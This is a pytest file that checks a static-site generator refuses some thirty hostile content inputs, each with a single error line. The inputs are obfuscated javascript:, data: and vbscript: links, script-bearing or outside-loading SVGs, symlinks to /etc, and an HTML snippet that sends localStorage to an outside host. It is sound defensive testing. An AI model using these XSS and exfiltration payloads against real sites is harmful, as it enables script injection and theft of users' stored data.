"""Nothing an author writes can run in a reader's browser or reach outside the site.

A corpus of hostile content: each input is either refused by `python -m generator check`
with one ``file:line`` line (here), or built into pages where Chromium runs nothing, shows
the text as text and makes no request outside the site (test_hostile_pages.py). Hostile
YAML itself (aliases, nesting, size, links) is in test_hostile_yaml.py.
"""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from .support.sites import FIXTURE_TOOLKIT, REPO, build_site
from .test_validation_errors import ALPHA, GUIDE, HOME, RESOURCES, SITE, copy_fixture

ASSETS = "content/assets"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{}</svg>'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


@dataclass(frozen=True)
class Hostile:
    name: str
    change: Callable[[Path], None]
    expected: str
    """The one line the check must print (the message may be cut short with '…')."""


def edit(file: str, old: str, new: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        path = root / file
        text = path.read_text(encoding="utf-8")
        assert text.count(old) == 1, f"{old!r} must occur once in {file}"
        path.write_text(text.replace(old, new), encoding="utf-8")

    return apply


def add_file(file: str, content: str | bytes) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        path = root / file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())

    return apply


def add_link(file: str, target: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        path = root / file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target.replace("ROOT", str(root)))

    return apply


def logo(file: str, content: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        add_file(f"{ASSETS}/{file}", content)(root)
        edit(SITE, "storage_namespace:", f"logo: assets/{file}\nstorage_namespace:")(root)

    return apply


def both(*changes: Callable[[Path], None]) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        for change in changes:
            change(root)

    return apply


INTRO = "stages[0].intro"
WRES = "[WRES](resource:wres)"
KINDS = "use http:, https:, mailto:, tel:, resource:, page:, programme:, question: links"
UNKNOWN_KIND = (
    "expected resource:, page:, programme:, question: or a web address starting with https://"
)
IMAGE_RULE = (
    "images must be files in content/assets/ (png, jpg, gif, webp or svg), written like"
    " assets/chart.png"
)
NOT_ALLOWED = (
    "file not allowed here: content/ holds the YAML content files and, in content/assets/,"
    " images (png, jpg, gif, webp, svg) and PDFs; move it or delete it"
)
LINKED = "is a symbolic link, which the toolkit does not follow: put the real file or folder here"
LOGO_RULE = "the logo must be an image in content/assets/, like assets/logo.svg"

CORPUS = [
    # Links that would run script, judged as the browser reads them.
    Hostile(
        "link-in-angle-brackets",
        edit(GUIDE, WRES, "[A](<javascript:alert(1)>)"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'javascript:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "link-with-entity-colon",
        edit(GUIDE, WRES, "[B](javascript&#58;alert(2))"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'javascript:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "link-with-hex-entity-letter",
        edit(GUIDE, WRES, "[B](&#x6a;avascript:alert(2))"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'javascript:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "reference-definition",
        edit(
            HOME,
            "privacy: Kept in this browser only.",
            "privacy: |\n  See [c].\n\n  [c]: javascript:alert(3)",
        ),
        f"{HOME}:21: privacy: unknown kind of link 'javascript:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "mixed-case-scheme",
        edit(GUIDE, WRES, "[E](JaVaScRiPt:alert(1))"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'JaVaScRiPt:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "data-link",
        edit(GUIDE, WRES, "[F](data:text/html,<script>alert(1)</script>)"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'data:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "vbscript-link",
        edit(GUIDE, WRES, "[G](vbscript:msgbox(1))"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'vbscript:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "protocol-relative-link",
        edit(GUIDE, WRES, "[H](//tracker.example/x)"),
        f"{GUIDE}:6: {INTRO}: an address starting with '//' leaves this site; write it with"
        " https://",
    ),
    Hostile(
        "link-with-a-tab-in-its-scheme",
        edit(GUIDE, WRES, "[I](java\tscript:alert(1))"),
        f"{GUIDE}:6: {INTRO}: this address is not a link a browser can follow; {KINDS}",
    ),
    # Images: only files in content/assets.
    Hostile(
        "image-from-another-server",
        edit(GUIDE, WRES, "![x](https://tracker.example/p.png)"),
        f"{GUIDE}:6: {INTRO}: image 'https://tracker.example/p.png' is not allowed: {IMAGE_RULE}",
    ),
    Hostile(
        "image-outside-assets",
        edit(GUIDE, WRES, "![x](../framework/secret.png)"),
        f"{GUIDE}:6: {INTRO}: image '../framework/secret.png' is not allowed: {IMAGE_RULE}",
    ),
    Hostile(
        "image-missing",
        edit(GUIDE, WRES, "![x](assets/chart.png)"),
        f"{GUIDE}:6: {INTRO}: image file not found: expected it at content/assets/chart.png",
    ),
    # Addresses in settings.
    Hostile(
        "resource-address-with-script",
        edit(RESOURCES, "url: https://example.org/wres", "url: javascript:alert(1)"),
        f"{RESOURCES}:11: groups[0].resources[1].url: bad address 'javascript:alert(1)':"
        " expected a web address starting with https:// or http://, a mailto: or tel: address,"
        " or a path on your intranet starting with /",
    ),
    Hostile(
        "site-address-that-ends-an-attribute",
        edit(
            SITE,
            "storage_namespace:",
            "address: 'https://x.example/\"><script>1</script>'\nstorage_namespace:",
        ),
        f"{SITE}:5: address: bad address 'https://x.example/\"><script>1</script>': expected a"
        " web address starting with https:// or http://, a mailto: or tel: address, or a path"
        " on your intranet starting with /",
    ),
    Hostile(
        "programme-link-protocol-relative",
        edit(ALPHA, "url: https://example.org/alpha", "url: //tracker.example/alpha"),
        f"{ALPHA}:19: links[0].url: bad address '//tracker.example/alpha': expected a web"
        " address starting with https:// or http://, a mailto: or tel: address, or a path on"
        " your intranet starting with /",
    ),
    # Files in content/.
    Hostile(
        "markdown-page-with-script",
        add_file("content/notes.md", "# Notes\n\n<script>alert(1)</script>\n"),
        f"content/notes.md: {NOT_ALLOWED}",
    ),
    Hostile(
        "html-file-that-reads-storage",
        add_file(
            "content/page.html", "<script>fetch('//x?'+JSON.stringify(localStorage))</script>"
        ),
        f"content/page.html: {NOT_ALLOWED}",
    ),
    Hostile(
        "script-file-in-assets",
        add_file(f"{ASSETS}/app.js", "alert(1)"),
        f"{ASSETS}/app.js: {NOT_ALLOWED}",
    ),
    Hostile(
        "unknown-yaml-file",
        add_file("content/extra.yml", "title: x\n"),
        "content/extra.yml: not a content file: expected one of guide.yml, home.yml,"
        " journal.yml, plan.yml, programmes.yml, resources.yml, site.yml",
    ),
    Hostile(
        "svg-with-script",
        logo("logo.svg", SVG.format("<script>alert(1)</script>")),
        f"{ASSETS}/logo.svg: SVG image with a <script> element: remove it",
    ),
    Hostile(
        "svg-with-event-handler",
        add_file(f"{ASSETS}/a.svg", SVG.format('<rect width="9" height="9" onload="alert(1)"/>')),
        f"{ASSETS}/a.svg: SVG image with an event handler (onload): remove it",
    ),
    Hostile(
        "svg-with-outside-reference",
        add_file(
            f"{ASSETS}/b.svg",
            SVG.format(f'<image {XLINK} xlink:href="https://tracker.example/p.png"/>'),
        ),
        f"{ASSETS}/b.svg: SVG image that refers to something outside it"
        " (https://tracker.example/p.png): remove it",
    ),
    Hostile(
        "svg-with-style-that-loads",
        add_file(f"{ASSETS}/c.svg", SVG.format("<style>rect{fill:url(https://x/y)}</style>")),
        f"{ASSETS}/c.svg: SVG image whose styles load other files: remove url() and @import",
    ),
    Hostile(
        "svg-with-entities",
        add_file(
            f"{ASSETS}/d.svg",
            '<!DOCTYPE svg [<!ENTITY a "aaaa">]>' + SVG.format("<text>&a;</text>"),
        ),
        f"{ASSETS}/d.svg: SVG image with a DOCTYPE or entities: save it as plain SVG",
    ),
    Hostile(
        "svg-with-foreign-object",
        add_file(f"{ASSETS}/e.svg", SVG.format("<foreignObject><p>x</p></foreignObject>")),
        f"{ASSETS}/e.svg: SVG image with a <foreignObject> element: remove it",
    ),
    Hostile(
        "logo-linked-to-a-secret",
        both(
            add_link(f"{ASSETS}/logo.svg", "ROOT/../secret.svg"),
            edit(SITE, "storage_namespace:", "logo: assets/logo.svg\nstorage_namespace:"),
        ),
        f"{ASSETS}/logo.svg: {LINKED}",
    ),
    Hostile(
        "link-loop",
        add_link(f"{ASSETS}/loop", "ROOT/content/assets/loop"),
        f"{ASSETS}/loop: {LINKED}",
    ),
    Hostile(
        "linked-folder",
        add_link(f"{ASSETS}/more", "/etc"),
        f"{ASSETS}/more: {LINKED}",
    ),
    Hostile(
        "logo-outside-content",
        edit(SITE, "storage_namespace:", "logo: ../mkdocs.yml\nstorage_namespace:"),
        f"{SITE}:5: logo: {LOGO_RULE}",
    ),
    Hostile(
        "logo-not-an-image",
        both(
            add_file(f"{ASSETS}/guide.pdf", b"%PDF-1.4\n"),
            edit(SITE, "storage_namespace:", "logo: assets/guide.pdf\nstorage_namespace:"),
        ),
        f"{SITE}:5: logo: {LOGO_RULE}",
    ),
]


def _check(root: Path) -> tuple[subprocess.CompletedProcess[str], float]:
    start = time.perf_counter()
    result = subprocess.run(
        [sys.executable, "-m", "generator", "--root", str(root), "check"],
        capture_output=True,
        text=True,
        check=False,
        cwd=REPO,
        timeout=5,
    )
    return result, time.perf_counter() - start


def test_the_corpus_is_large_enough() -> None:
    names = [each.name for each in CORPUS]
    assert len(set(names)) == len(names) >= 30


@pytest.mark.parametrize("hostile", CORPUS, ids=lambda each: each.name)
def test_the_check_refuses_it_with_one_line(hostile: Hostile, tmp_path: Path) -> None:
    root = copy_fixture(tmp_path)
    hostile.change(root)
    result, seconds = _check(root)
    lines = result.stderr.splitlines()
    assert result.returncode == 1, result.stdout
    assert "Traceback" not in result.stderr
    assert lines[:-1] == [hostile.expected], result.stderr
    assert lines[-1] == "1 content error found."
    assert seconds < 5


def test_a_refused_build_leaves_the_last_good_site(tmp_path: Path) -> None:
    site = tmp_path / "site"
    build_site(FIXTURE_TOOLKIT, site)
    before = {path: path.read_bytes() for path in site.rglob("*") if path.is_file()}
    root = copy_fixture(tmp_path)
    add_file("content/page.html", "<script>alert(1)</script>")(root)
    add_link(f"{ASSETS}/loop", "ROOT/content/assets/loop")(root)
    result = build_site(root, site, check=False)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert {path: path.read_bytes() for path in site.rglob("*") if path.is_file()} == before


def test_only_assets_are_published(tmp_path: Path) -> None:
    """What the check allows in content/ is published; the YAML files never are."""
    root = copy_fixture(tmp_path)
    add_file(f"{ASSETS}/chart.png", b"\x89PNG\r\n\x1a\n")(root)
    add_file(f"{ASSETS}/guide.pdf", b"%PDF-1.4\n")(root)
    add_file(f"{ASSETS}/.hidden", "not published")(root)
    build_site(root, tmp_path / "site")
    site = tmp_path / "site"
    assert (site / "assets" / "chart.png").read_bytes() == b"\x89PNG\r\n\x1a\n"
    assert (site / "assets" / "guide.pdf").is_file()
    assert not (site / "assets" / ".hidden").exists()
    assert not list(site.rglob("*.yml"))
